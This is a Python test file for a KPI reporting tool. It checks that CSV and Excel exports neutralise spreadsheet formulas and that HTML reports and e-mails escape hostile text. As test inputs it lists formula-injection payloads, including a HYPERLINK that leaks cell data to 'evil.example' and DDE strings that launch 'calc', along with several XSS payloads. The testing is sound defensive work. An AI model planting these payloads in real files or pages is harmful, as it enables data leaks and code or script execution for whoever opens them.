"""Outputs safe to open: formula-looking text neutralised in CSV and Excel exports (and restored on import), and
every HTML page and e-mail escaping the text users and targets.yaml give."""

from __future__ import annotations

import csv
import email
import email.policy
import io
import json
import zipfile
from email.message import EmailMessage
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from egovkpi.cells import FORMULA_STARTS, neutralised, restored
from tests.helpers import ROOT, Run

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "'=already quoted",
    "''+twice",
    "'plain quote stays",
]


def exported(run: Run, *args: str) -> bytes:
    result = run("export", *args)
    assert result.exit_code == 0, result.output
    return result.stdout_bytes


def notes_store(run: Run) -> None:
    """One figure per hostile text, the text as its note (and, reversed, as its source): one `add`, the others
    imported from JSON (which is read as it is), since each command costs a quarter of a second."""
    done = run.add("--value", "12.5", "--note", FORMULAS[0], "--source", FORMULAS[0][::-1], period="2009")
    assert done.exit_code == 0, done.output
    items = [
        {"province": "Phú Yên", "kpi": "online_dossiers", "period": str(year), "value": 12.5, "note": text,
         "source": text[::-1]}
        for year, text in enumerate(FORMULAS, start=2010)
    ]  # fmt: skip
    Path("notes.json").write_text(json.dumps(items), encoding="utf-8")
    done = run("import", "notes.json")
    assert done.exit_code == 0, done.output


# The rule itself


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_restored_undoes_neutralised(text: str) -> None:
    assert restored(neutralised(text)) == text


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "\uff1d", "a", " ", '"']), max_size=6))
def test_a_neutralised_text_never_starts_as_a_formula(text: str) -> None:
    assert neutralised(text)[:1] not in set(FORMULA_STARTS)  # a set: the empty text is not in it
    assert restored(neutralised(text)) == text


def test_only_formula_looking_text_changes() -> None:
    assert neutralised("=1+1") == "'=1+1"
    assert neutralised("'=1+1") == "''=1+1"
    assert neutralised("'quoted'") == "'quoted'"
    assert neutralised("Báo cáo 12/BC-UBND") == "Báo cáo 12/BC-UBND"
    assert restored("'=1+1") == "=1+1"
    assert restored("''=1+1") == "'=1+1"
    assert restored("'quoted'") == "'quoted'"


# CSV


@pytest.mark.parametrize("lang", ["en", "vi"])
def test_csv_export_neutralises_formulas_and_keeps_numbers(run: Run, lang: str) -> None:
    notes_store(run)
    data = exported(run, "--format", "csv", "--lang", lang, "--province", "Phú Yên")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";" if lang == "vi" else ","))
    cells = [cell for row in rows[1:] for cell in row]
    for text in FORMULAS:
        if text[:1] in FORMULA_STARTS or text.startswith(("'=", "''")):
            assert "'" + text in cells, text
        else:
            assert text in cells, text
    dangerous = [cell for cell in cells if cell and cell[0] in FORMULA_STARTS]
    assert dangerous == []
    assert ("12,5" if lang == "vi" else "12.5") in cells  # a number is a number, never quoted


@pytest.mark.parametrize("options", [["-f", "csv"], ["-f", "csv", "--lang", "vi"], ["-f", "csv", "--with-history"]])
def test_csv_round_trip_restores_the_exact_text(run: Run, isolated: Path, options: list[str]) -> None:
    notes_store(run)
    first = exported(run, *options)
    (isolated / "out.csv").write_bytes(first)
    other = str(isolated / "other.db")
    result = run("import", "out.csv", "--db", other)
    assert result.exit_code == 0, result.output
    assert exported(run, *options, "--db", other) == first
    wanted = json.loads(exported(run, "-f", "json"))
    assert json.loads(exported(run, "-f", "json", "--db", other)) == wanted
    assert {item["note"] for item in wanted} >= set(FORMULAS)


def test_a_hand_made_csv_with_a_quote_before_a_formula_is_read_without_it(run: Run, isolated: Path) -> None:
    (isolated / "in.csv").write_text(
        "province,kpi,period,value,note\nPhú Yên,online_dossiers,2019,12.5,'=1+1\n", encoding="utf-8"
    )
    assert run("import", "in.csv").exit_code == 0
    [item] = json.loads(exported(run, "-f", "json"))
    assert item["note"] == "=1+1"


# Excel


def test_xlsx_writes_formula_looking_text_as_text_with_the_quote_prefix(run: Run, isolated: Path) -> None:
    from openpyxl import load_workbook

    notes_store(run)
    assert run("export", "-f", "xlsx", "-o", "out.xlsx").exit_code == 0
    with zipfile.ZipFile(isolated / "out.xlsx") as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    sheet = load_workbook(isolated / "out.xlsx").worksheets[0]
    header = [cell.value for cell in sheet[1]]
    notes = {row[header.index("note")].value: row[header.index("note")] for row in sheet.iter_rows(min_row=2)}
    for text in FORMULAS:
        cell = notes[text]  # the text exactly, no quote added
        assert cell.data_type == "s", text
        assert cell.quotePrefix == (text[:1] in FORMULA_STARTS), text


def test_xlsx_round_trip_keeps_the_exact_text(run: Run, isolated: Path) -> None:
    notes_store(run)
    assert run("export", "-f", "xlsx", "-o", "out.xlsx").exit_code == 0
    other = str(isolated / "other.db")
    result = run("import", "out.xlsx", "--db", other)
    assert result.exit_code == 0, result.output
    assert json.loads(exported(run, "-f", "json", "--db", other)) == json.loads(exported(run, "-f", "json"))


def test_json_is_not_neutralised(run: Run) -> None:
    notes_store(run)
    notes = {item["note"] for item in json.loads(exported(run, "-f", "json"))}
    assert notes == set(FORMULAS)


# HTML and e-mail

HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "&amp; &lt;b&gt;",
    "</title><script>alert(2)</script>",
    "<style>body{display:none}</style>",
]


class Elements(HTMLParser):
    """Every element and attribute of a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def assert_safe(page: str, *, shown: int = 1) -> None:
    """No element or handler came from the hostile text, and at least `shown` of the texts are there, as text."""
    parsed = Elements()
    parsed.feed(page)
    parsed.close()
    assert "script" not in parsed.tags and "img" not in parsed.tags
    assert "style" not in parsed.tags[1:] or parsed.tags.count("style") == page.count("<style>")
    assert [name for name, _ in parsed.attributes if name.startswith("on")] == []
    assert "<script>alert" not in page and "<img src=x" not in page and "<svg onload" not in page
    text = "".join(parsed.text) + " ".join(value for _, value in parsed.attributes)
    assert sum(hostile in text for hostile in HOSTILE) >= shown, page[:2000]


def _hostile(value: Any, depth: int = 0) -> Any:
    """Every text of targets.yaml that a person reads (names, definitions, basis, source, note) made hostile."""
    if isinstance(value, dict):
        out = {}
        for key, inner in value.items():
            if key in ("vi", "en") and isinstance(inner, str):
                out[key] = f"{inner} {HOSTILE[depth % len(HOSTILE)]}"
            elif key in ("basis", "note", "figures_from", "national_reason", "source") and isinstance(inner, str):
                out[key] = f"{HOSTILE[(depth + 1) % len(HOSTILE)]} {inner}"
            else:
                out[key] = _hostile(inner, depth + 1)
        return out
    if isinstance(value, list):
        return [_hostile(item, depth + index) for index, item in enumerate(value)]
    return value


@pytest.fixture
def hostile(run: Run, isolated: Path) -> Run:
    """targets.yaml with hostile text in every field people read; the sample figures, with hostile sources and
    notes on Phú Yên's."""
    shipped = yaml.safe_load((ROOT / "targets.yaml").read_text(encoding="utf-8"))
    (isolated / "targets.yaml").write_text(yaml.safe_dump(_hostile(shipped), allow_unicode=True), encoding="utf-8")
    listed = run("targets")
    assert listed.exit_code == 0, listed.output
    assert run("import", str(ROOT / "data" / "figures.csv")).exit_code == 0
    items = [
        {"province": "Phú Yên", "kpi": "online_dossiers", "period": str(2014 + number), "value": 20 + number,
         "source": text, "note": text}
        for number, text in enumerate(HOSTILE)
    ]  # fmt: skip
    (isolated / "hostile.json").write_text(json.dumps(items), encoding="utf-8")
    done = run("import", "hostile.json")
    assert done.exit_code == 0, done.output
    return run


def test_report_html_escapes(hostile: Run) -> None:
    for scope in (["-p", "Phú Yên"], ["-p", "national"], []):
        result = hostile("report", "--format", "html", *scope)
        assert result.exit_code == 0, result.output
        assert_safe(result.stdout, shown=1)


def test_summary_email_escapes(hostile: Run, isolated: Path) -> None:
    result = hostile("summary", "-p", "Phú Yên", "-p", "national", "--output", "out.eml")
    assert result.exit_code == 0, result.output
    message = email.message_from_bytes((isolated / "out.eml").read_bytes(), policy=email.policy.default)
    assert isinstance(message, EmailMessage)
    body = message.get_body(("html",))
    assert body is not None
    assert_safe(str(body.get_content()), shown=2)


def test_completeness_html_escapes(hostile: Run) -> None:
    result = hostile("completeness", "--format", "html")
    assert result.exit_code == 0, result.output
    assert_safe(result.stdout, shown=0)


def test_reminder_escapes(hostile: Run, isolated: Path) -> None:
    (isolated / "contacts.yaml").write_text("contacts:\n  Huế: so.tttt@hue.example.org\n", encoding="utf-8")
    (isolated / "out").mkdir()
    result = hostile("remind", "-p", "Huế", "--period", "2025-H1", "-o", "out")
    assert result.exit_code == 0, result.output
    [written] = list((isolated / "out").iterdir())
    message = email.message_from_bytes(written.read_bytes(), policy=email.policy.default)
    assert isinstance(message, EmailMessage)
    html_part = message.get_body(("html",))
    if html_part is not None:
        assert_safe(str(html_part.get_content()), shown=1)
    plain = message.get_body(("plain",))
    assert plain is not None and any(text in str(plain.get_content()) for text in HOSTILE)


def test_every_command_csv_quotes_a_formula_but_not_the_comparator() -> None:
    from egovkpi.render.text import to_csv

    written = to_csv(
        [{"note": '=HYPERLINK("http://x")', "comparator": "=", "value": -5.0}], ["note", "comparator", "value"]
    )
    assert written.splitlines()[1] == '"\'=HYPERLINK(""http://x"")",=,-5.0'
